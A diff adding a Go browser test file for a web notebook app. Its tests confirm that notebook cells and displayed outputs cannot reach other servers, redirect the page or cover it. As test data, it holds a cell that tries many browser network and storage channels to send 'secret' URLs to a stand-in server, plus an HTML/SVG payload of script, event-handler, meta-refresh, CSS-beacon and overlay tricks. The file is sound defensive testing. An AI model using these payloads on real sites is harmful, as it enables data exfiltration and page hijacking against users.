@@ -1,0 +1,448 @@
+package main
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/input"
+	protocol "github.com/chromedp/cdproto/page"
+	"github.com/chromedp/chromedp"
+
+	"github.com/mpcvm/mpcvm/tools/browser"
+)
+
+// ear is what must not be heard: connections to another server, and requests to our own that carry a secret.
+type ear struct {
+	mu    sync.Mutex
+	heard []string
+}
+
+func (e *ear) hear(what string) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.heard = append(e.heard, what)
+}
+
+// fresh is what was heard since the last call.
+func (e *ear) fresh() []string {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	heard := e.heard
+	e.heard = nil
+	return heard
+}
+
+// listening hears each connection, also one that sends nothing.
+type listening struct {
+	net.Listener
+	ear *ear
+}
+
+func (l listening) Accept() (net.Conn, error) {
+	c, err := l.Listener.Accept()
+	if err == nil {
+		l.ear.hear("a connection to the other server")
+	}
+	return c, err
+}
+
+// watched opens Chromium with two servers: the site, and another, whose address is other. Each hears what it must not.
+func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
+	t.Helper()
+	oneOf(t, "chromium", "google-chrome", "chromium-browser")
+	e = &ear{}
+	files := http.FileServer(http.Dir(built))
+	own := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.Contains(r.URL.String(), "secret") {
+			e.hear("our own server: " + r.URL.String())
+		}
+		files.ServeHTTP(w, r)
+	}))
+	t.Cleanup(own.Close)
+	foreign := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		e.hear("the other server: " + r.URL.String())
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		_, _ = w.Write([]byte("<h1>taken away</h1>"))
+	}))
+	foreign.Listener = listening{foreign.Listener, e}
+	foreign.Start()
+	t.Cleanup(foreign.Close)
+	ctx, cancel := browser.Start(t.Context())
+	t.Cleanup(cancel)
+	must(t, 0, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900)))
+	return ctx, own.URL, foreign.URL, e
+}
+
+// value is that of an expression of the page, or of its promise.
+func value[T any](ctx context.Context, t *testing.T, expression string, arguments ...any) T {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
+	defer cancel()
+	texts := make([]any, len(arguments))
+	for i, a := range arguments {
+		text, err := json.Marshal(a)
+		texts[i] = string(must(t, text, err))
+	}
+	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](fmt.Sprintf(expression, texts...), chromedp.EvalAwaitPromise))
+	if err != nil {
+		t.Fatalf("%s: %v", expression, err)
+	}
+	return v
+}
+
+// comes waits for a condition of the page, which fails while the page changes.
+func comes(ctx context.Context, t *testing.T, condition string) {
+	t.Helper()
+	for end := time.Now().Add(2 * time.Minute); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
+		if ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("!!("+condition+")")); err == nil && ok {
+			return
+		}
+	}
+	text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText.slice(0, 2000)`))
+	t.Fatalf("%s does not come; the page: %s", condition, text)
+}
+
+const pageReady = `document.documentElement.dataset.ready && window.mpcvmNotebook`
+
+// openNotebook opens a page of a live notebook and waits until it is there.
+func openNotebook(ctx context.Context, t *testing.T, address string) {
+	t.Helper()
+	must(t, 0, chromedp.Do(ctx, chromedp.Navigate("about:blank"), chromedp.Navigate(address)))
+	comes(ctx, t, pageReady)
+}
+
+// picture keeps a picture of the page in LOOK_OUT.
+func picture(ctx context.Context, t *testing.T, name string) {
+	t.Helper()
+	out := os.Getenv("LOOK_OUT")
+	if out == "" {
+		return
+	}
+	for _, width := range []int64{1280, 400} {
+		must(t, 0, chromedp.Do(ctx, chromedp.EmulateViewport(width, 700)))
+		time.Sleep(300 * time.Millisecond) // charts move into place
+		shot, err := chromedp.Call(ctx, protocol.CaptureScreenshot, protocol.CaptureScreenshotParams{})
+		must(t, 0, err)
+		must(t, 0, os.WriteFile(filepath.Join(out, fmt.Sprintf("%s-%d.png", name, width)), shot.Data, 0o600))
+	}
+	must(t, 0, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900)))
+}
+
+// button presses the button of the page with a text.
+func button(ctx context.Context, t *testing.T, text string) {
+	t.Helper()
+	is := `[...document.querySelectorAll("#main button")].find(b => b.textContent === %s && b.checkVisibility())`
+	quoted, err := json.Marshal(text)
+	comes(ctx, t, fmt.Sprintf(is, must(t, quoted, err)))
+	value[any](ctx, t, is+".click()", text)
+}
+
+// runJS runs a cell in the page's kernel, as the page does, and gives its status and what it wrote.
+const runJS = `(async () => {
+	const out = { text: "", html: 0 };
+	const r = await mpcvmNotebook.kernel.run("a", %s, { text: (_, t) => out.text += t, html() { out.html++ }, update() {} });
+	return r.status + "\n" + r.errors.map(e => e.text).join("\n") + out.text;
+})()`
+
+// leaks is a cell that tries every way out of a worker. It writes a line for each that seems to be open.
+const leaks = `import "syscall/js"
+
+// settled waits at most three seconds for a promise, or for one of the events of a target.
+func settled(v js.Value, good ...string) string {
+	done := make(chan string, 4)
+	f := func(text string) js.Func {
+		return js.FuncOf(func(js.Value, []js.Value) any { done <- text; return nil })
+	}
+	if v.Get("then").Type() == js.TypeFunction {
+		v.Call("then", f("open"), f(""))
+	} else {
+		v.Set("onerror", f(""))
+		for _, event := range good {
+			v.Set(event, f("open"))
+		}
+	}
+	select {
+	case text := <-done:
+		return text
+	case <-time.After(3 * time.Second):
+		return ""
+	}
+}
+
+func try(name string, way func() string) {
+	defer func() { recover() }()
+	if way() != "" {
+		fmt.Println(name)
+	}
+}
+
+%%
+self := js.Global()
+get := func(url string) string {
+	_, err := http.Get(url)
+	if err != nil {
+		return ""
+	}
+	return "open"
+}
+blob := func(text string) string {
+	return self.Get("URL").Call("createObjectURL", self.Get("Blob").New([]any{text}, map[string]any{"type": "text/javascript"})).String()
+}
+try("http.Get", func() string { return get("OTHER/get?secret") })
+try("http.Get of ours", func() string { return get("OWN/search.html?secret") })
+try("fetch without cors", func() string { return settled(self.Call("fetch", "OTHER/opaque?secret", map[string]any{"mode": "no-cors"})) })
+try("XMLHttpRequest", func() string {
+	x := self.Get("XMLHttpRequest").New()
+	x.Call("open", "GET", "OTHER/xhr?secret", false)
+	x.Call("send")
+	return "open"
+})
+for _, at := range []string{"OTHER", "OWN"} {
+	try("WebSocket", func() string { return settled(self.Get("WebSocket").New(strings.Replace(at, "http", "ws", 1)+"/ws?secret"), "onopen") })
+}
+try("EventSource", func() string { return settled(self.Get("EventSource").New("OTHER/events?secret"), "onopen") })
+try("importScripts", func() string { self.Call("importScripts", "OTHER/script?secret"); return "open" })
+try("importScripts of ours", func() string { self.Call("importScripts", "OWN/search.js?secret"); return "open" })
+try("worker", func() string { return settled(self.Get("Worker").New("OWN/search.js?secret"), "onmessage") })
+try("nested worker", func() string {
+	return settled(self.Get("Worker").New(blob("fetch('OTHER/nested?secret', {mode: 'no-cors'}).then(() => postMessage(1))")), "onmessage")
+})
+try("font", func() string { return settled(self.Get("FontFace").New("x", "url(OTHER/font?secret)").Call("load")) })
+try("IndexedDB", func() string { return settled(self.Get("indexedDB").Call("open", "mpcvm-notebooks"), "onsuccess") })
+try("caches", func() string { return settled(self.Get("caches").Call("open", "mpcvm")) })
+try("cache of the site", func() string { return settled(self.Get("caches").Call("delete", "mpcvm-2")) })
+try("locks", func() string { return settled(self.Get("navigator").Get("locks").Call("query")) })
+try("files", func() string { return settled(self.Get("navigator").Get("storage").Call("getDirectory")) })
+self.Get("BroadcastChannel").New("mpcvm-notebooks").Call("postMessage", "KEY")
+_, err := os.ReadFile("/mpcvm/data/penguins.csv")
+fmt.Println("done", err)
+`
+
+// TestProgramIsAlone runs a cell that tries to reach another server, our own, and what the browser keeps for the site. In the
+// playground the engine's worker is in the same kind of sandbox.
+func TestProgramIsAlone(t *testing.T) {
+	ctx, site, other, e := watched(t)
+	openNotebook(ctx, t, site+"/notebooks/new.html")
+	e.fresh()
+	source := strings.NewReplacer("OTHER", other, "OWN", site).Replace(leaks)
+	if got := value[string](ctx, t, runJS, source); got != "ok\ndone <nil>\n" {
+		t.Errorf("a cell can use:\n%s", got)
+	}
+	time.Sleep(500 * time.Millisecond) // for a connection that nobody waits for
+	if heard := e.fresh(); len(heard) > 0 {
+		t.Errorf("a cell was heard: %q", heard)
+	}
+	if got := value[string](ctx, t, `caches.keys().then(k => k.join())`); got != "mpcvm-2" {
+		t.Errorf("caches of the site: %q", got)
+	}
+	must(t, 0, chromedp.Do(ctx, chromedp.Navigate(site+"/playground/index.html")))
+	comes(ctx, t, `document.documentElement.dataset.ready`)
+	if got := value[int](ctx, t, `performance.getEntriesByType("resource").filter(r => r.name.endsWith("worker.js") && r.initiatorType !== "fetch").length`); got != 0 {
+		t.Error("the playground's worker is not in a sandbox")
+	}
+	if got := value[string](ctx, t, `[...document.querySelectorAll("iframe")].map(f => f.getAttribute("sandbox")).join()`); got != "allow-scripts" {
+		t.Errorf("frames of the playground: %q", got)
+	}
+}
+
+// hostile is an output that wants to reach a server, to lead the reader away, or to cover the page.
+const hostile = `<h3>an output</h3><p style="color: red">with <b>styles</b></p>
+<img src="OTHER/img?secret"><img src="OWN/icon.svg?secret"><img srcset="OTHER/srcset?secret"><picture><source srcset="OTHER/source?secret"><img></picture>
+<script src="OTHER/script?secret"></script><script>location.href = "OTHER/inline?secret"</script>
+<img src="data:," onerror="location.href='OTHER/handler?secret'"><svg onload="location.href='OTHER/svg?secret'"></svg>
+<meta http-equiv="refresh" content="0;url=OTHER/refresh?secret"><base href="OTHER/">
+<link rel="stylesheet" href="OTHER/style?secret"><link rel="preconnect" href="OTHER"><link rel="prefetch" href="OWN/search.html?secret"><link rel="stylesheet" href="OWN/style.css?secret">
+<style>@import "OWN/style.css?import=secret"; @font-face { font-family: q; src: url("OWN/font?secret") } p { font-family: q; background: url("OTHER/bg?secret") } .controls { display: none }</style>
+<p style="background: url('OTHER/attribute?secret'); cursor: url('OWN/cursor?secret'), auto">x</p>
+<svg><image href="OTHER/image?secret"/><use href="OTHER/use?secret#a"/><a href="OTHER/a"><text y="20">link</text></a></svg>
+<iframe src="OTHER/frame?secret"></iframe><iframe srcdoc="<meta http-equiv=refresh content='0;url=OTHER/srcdoc?secret'>"></iframe><object data="OTHER/object?secret"></object><embed src="OTHER/embed?secret">
+<video src="OTHER/video?secret" poster="OTHER/poster?secret"></video><audio src="OTHER/audio?secret" autoplay></audio>
+<form action="OWN/search.html" id="f"><input name="secret" value="1"><button id="submit">Run it</button></form><button form="f" formaction="OTHER/formaction">x</button>
+<a id="away" href="OTHER/link?secret" target="_top" ping="OTHER/ping?secret">click here</a><map name="m"><area href="OTHER/area?secret" shape="default"></map>
+<div popover id="pop">over</div><button popovertarget="pop">pop</button><dialog open>dialog</dialog>
+<div id="cover" style="position: fixed; inset: 0; z-index: 9999; background: #fff">covers the page</div>
+<div id="huge" style="position: absolute; top: -3000px; left: -3000px; width: 9000px; height: 9000px; z-index: 9999; background: #fff">covers the page</div>
+<template><meta http-equiv="refresh" content="0;url=OTHER/template?secret"></template>
+<div class="mpcvm-chart" id="chart" style="height: 200px"></div><script>(window.mpcvmWait=window.mpcvmWait||[]).push("CHART")</script>`
+
+// hostileChart is the code of a chart with an address in its title and HTML in its tooltip, which it wants to put outside.
+const hostileChart = `show("chart",{"title":{"text":"chart","link":"OTHER/title?secret","target":"self"},"tooltip":{"trigger":"axis","alwaysShowContent":true,"appendTo":"body","formatter":"<i class=tip>tip</i><meta http-equiv=refresh content='0;url=OTHER/tip?secret'><img src='OTHER/tip?secret'>"},"xAxis":{"type":"value"},"yAxis":{"type":"value"},"series":[{"type":"line","data":[[0,1],[1,2]]}]},null);`
+
+// withChart is the hostile output with its chart and the addresses of the servers.
+func withChart(t *testing.T, site, other string) string {
+	t.Helper()
+	var packed bytes.Buffer
+	z := gzip.NewWriter(&packed)
+	_, err := z.Write([]byte(strings.ReplaceAll(hostileChart, "OTHER", other)))
+	must(t, 0, err)
+	must(t, 0, z.Close())
+	return strings.NewReplacer("OTHER", other, "OWN", site, "CHART", base64.StdEncoding.EncodeToString(packed.Bytes())).Replace(hostile)
+}
+
+// TestOutputIsHarmless shows an output that wants to harm, from a program and from an opened file.
+func TestOutputIsHarmless(t *testing.T) {
+	ctx, site, other, e := watched(t)
+	out := withChart(t, site, other)
+	file, err := json.Marshal(map[string]any{"cells": []any{map[string]any{"id": "x", "cell_type": "code", "source": "println(1)", "metadata": map[string]any{},
+		"outputs": []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{"text/html": out}}}},
+		map[string]any{"id": "y", "cell_type": "markdown", "metadata": map[string]any{}, "source": "![x](" + other + "/text?secret) <img src=" + other + "/html?secret>"}},
+		"metadata": map[string]any{}, "nbformat": 4, "nbformat_minor": 5})
+	must(t, 0, err)
+	for _, way := range []struct {
+		name string
+		show func()
+	}{
+		{"a program", func() {
+			openNotebook(ctx, t, site+"/notebooks/new.html")
+			value[any](ctx, t, `void document.querySelector(".cell.code > pre").click()`)
+			comes(ctx, t, `document.activeElement?.closest(".cm-editor")`)
+			cell := "import \"syscall/js\"\n%%\njs.Global().Get(\"mpcvmCell\").Call(\"display\", " + "`" + strings.ReplaceAll(out, "`", "") + "`)"
+			_, err := chromedp.Call(ctx, input.InsertText, input.InsertTextParams{Text: cell})
+			must(t, 0, err)
+			button(ctx, t, "▶")
+		}},
+		{"an opened file", func() {
+			openNotebook(ctx, t, site+"/notebooks/new.html")
+			value[any](ctx, t, `void (() => {
+				const dataTransfer = new DataTransfer();
+				dataTransfer.items.add(new File([%s], "hostile.ipynb"));
+				document.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true }));
+			})()`, string(file))
+		}},
+	} {
+		e.fresh()
+		way.show()
+		comes(ctx, t, pageReady+` && document.querySelector(".outputs h3")`)
+		comes(ctx, t, `document.querySelector(".mpcvm-chart svg")`)
+		time.Sleep(time.Second) // for what comes by itself
+		value[any](ctx, t, `scrollTo(0, 0)`)
+		if got := value[string](ctx, t, `[[innerWidth / 2, 5], [30, 30], [innerWidth / 2, document.querySelector(".controls").getBoundingClientRect().y + 10]]
+			.map(([x, y]) => document.elementFromPoint(x, y)).filter(e => e?.closest(".outputs")).map(e => e.outerHTML.slice(0, 100)).join()`); got != "" {
+			t.Errorf("an output of %s covers the page: %s", way.name, got)
+		}
+		value[any](ctx, t, `void document.querySelectorAll("#cover, #huge").forEach(e => e.remove())`) // they cover the chart
+		type box struct{ X, Y, Width, Height float64 }
+		b := value[box](ctx, t, `(() => { const c = document.querySelector(".mpcvm-chart"); c.scrollIntoView({ block: "center" }); const r = c.getBoundingClientRect(); return { X: r.x, Y: r.y, Width: r.width, Height: r.height } })()`)
+		for _, at := range []float64{.4, .5, .6} { // the tooltip, then the title
+			must(t, 0, chromedp.Do(ctx, chromedp.MouseEvent(input.DispatchMouseEventTypeMouseMoved, b.X+b.Width*at, b.Y+b.Height*.6)))
+		}
+		comes(ctx, t, `document.querySelector(".tip")`)
+		must(t, 0, chromedp.Do(ctx, chromedp.MouseClickXY(b.X+25, b.Y+15)))
+		value[any](ctx, t, `void document.querySelectorAll(".outputs :is(a, area, button, svg a)").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
+		time.Sleep(time.Second)
+		if heard := e.fresh(); len(heard) > 0 {
+			t.Errorf("an output of %s was heard: %q", way.name, heard)
+		}
+		if at := value[string](ctx, t, `location.href`); !strings.HasPrefix(at, site+"/notebooks/new.html#") {
+			t.Errorf("an output of %s led to %s", way.name, at)
+		}
+		if got := value[string](ctx, t, `[...document.querySelectorAll(".outputs :is(meta, link, base, style, script, form, iframe, object, embed, template, dialog, [href], [popover], [onerror])")].map(e => e.outerHTML).join()`); got != "" {
+			t.Errorf("an output of %s shows %s", way.name, got)
+		}
+		if got := value[string](ctx, t, `getComputedStyle(document.querySelector(".outputs p")).color + document.querySelector(".outputs p b").textContent + !!document.querySelector(".tip").closest(".outputs")`); got != "rgb(255, 0, 0)stylestrue" {
+			t.Errorf("what is harmless in an output of %s: %q", way.name, got)
+		}
+	}
+	// A browser without the sanitizer shows outputs in frames without scripts.
+	_, err = chromedp.Call(ctx, protocol.AddScriptToEvaluateOnNewDocument, protocol.AddScriptToEvaluateOnNewDocumentParams{Source: "delete Element.prototype.setHTML"})
+	must(t, 0, err)
+	e.fresh()
+	at := value[string](ctx, t, "location.href")
+	openNotebook(ctx, t, at)
+	comes(ctx, t, `document.querySelector(".outputs iframe")?.contentDocument?.querySelector("h3")`)
+	time.Sleep(2 * time.Second)
+	value[any](ctx, t, `void document.querySelector(".outputs iframe").contentDocument.querySelectorAll("a, button").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
+	time.Sleep(time.Second)
+	if heard, now := e.fresh(), value[string](ctx, t, "location.href"); len(heard) > 0 || now != at {
+		t.Errorf("an output in a frame was heard: %q; the page is at %s", heard, now)
+	}
+}
+
+// fragment is that of a link with a notebook, as site/notebook/share.js packs it.
+func fragment(t *testing.T, source string) string {
+	t.Helper()
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	must(t, 0, json.NewEncoder(z).Encode(map[string]any{"name": "shared", "cells": [][]string{{"code", source}}}))
+	must(t, 0, z.Close())
+	return "#notebook=" + base64.RawURLEncoding.EncodeToString(b.Bytes())
+}
+
+// TestOpened opens links, whole and damaged, and files: a notebook of somebody else asks before it runs, a damaged link says
+// so, files stay, statements need no mark, and a panic names its cell by its number.
+func TestOpened(t *testing.T) {
+	ctx, site, _, _ := watched(t)
+	address := site + "/notebooks/new.html"
+	const notice = `document.querySelector(".notice:not([hidden])")?.textContent ?? ""`
+	whole := fragment(t, "var a []int\nfmt.Println(\"begins\")\nfmt.Println(a[3])")
+	for _, damaged := range []string{whole[:len(whole)/2], "#notebook=", "#notebook=%", whole[:20] + "*" + whole[20:]} {
+		openNotebook(ctx, t, address+damaged)
+		if got := value[string](ctx, t, notice); !strings.Contains(got, "cannot be read") {
+			t.Errorf("the link %q: %q", damaged, got)
+		}
+		if got := value[int](ctx, t, `document.querySelectorAll(".cell.code").length`); got != 1 {
+			t.Errorf("the link %q: %d cells", damaged, got)
+		}
+	}
+	picture(ctx, t, "damaged-link")
+	openNotebook(ctx, t, address+"#own:000000000000")
+	if got := value[string](ctx, t, notice); !strings.Contains(got, "keeps no notebook") {
+		t.Errorf("a notebook that is not there: %q", got)
+	}
+
+	openNotebook(ctx, t, address+whole)
+	if got := value[string](ctx, t, notice); !strings.Contains(got, "comes from a link") {
+		t.Errorf("a link: %q", got)
+	}
+	button(ctx, t, "▶▶ Run all")
+	comes(ctx, t, notice+`.includes("Run its code?")`)
+	if got := value[string](ctx, t, `mpcvmNotebook.kernel.state + document.querySelectorAll(".cell[data-mark]:not([data-mark=''])").length`); got != "empty0" {
+		t.Errorf("a link ran without an answer: %s", got)
+	}
+	picture(ctx, t, "asks")
+	button(ctx, t, "Run it")
+	comes(ctx, t, `document.querySelector(".cell[data-mark=failed]")`)
+	if got := value[string](ctx, t, `document.querySelector(".outputs").textContent`); got != "begins\npanic: runtime error: index out of range [3] with length 0\n\tmain: cell 1, line 3\n" {
+		t.Errorf("a cell that panics: %q", got)
+	}
+	picture(ctx, t, "panics")
+	if got := value[string](ctx, t, `mpcvmNotebook.ipynb().then(nb => nb.cells[0].source.join(""))`); got != "var a []int\n%%\nfmt.Println(\"begins\")\nfmt.Println(a[3])" {
+		t.Errorf("the file for GoNB has the cell %q", got)
+	}
+	comes(ctx, t, `location.hash.startsWith("#own:")`)
+
+	value[any](ctx, t, `void (() => {
+		const dataTransfer = new DataTransfer();
+		dataTransfer.items.add(new File(["a,b\n1,x\n"], "t.csv"));
+		document.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true }));
+	})()`)
+	comes(ctx, t, notice+`.includes("stays in this browser")`)
+	must(t, 0, chromedp.Do(ctx, chromedp.Reload()))
+	comes(ctx, t, pageReady)
+	if got := value[string](ctx, t, `mpcvmNotebook.kernel.files().map(f => f.name + f.size + f.own).join()`); got != "t.csv8true" {
+		t.Errorf("files after a reload: %q", got)
+	}
+	if got := value[string](ctx, t, notice); strings.Contains(got, "comes from") {
+		t.Errorf("a notebook that was let run: %q", got)
+	}
+	value[any](ctx, t, `void (document.querySelector(".files").open = true)`)
+	button(ctx, t, "Remove")
+	must(t, 0, chromedp.Do(ctx, chromedp.Reload()))
+	comes(ctx, t, pageReady)
+	if got := value[int](ctx, t, `mpcvmNotebook.kernel.files().length`); got != 0 {
+		t.Errorf("%d files after they are removed", got)
+	}
+}
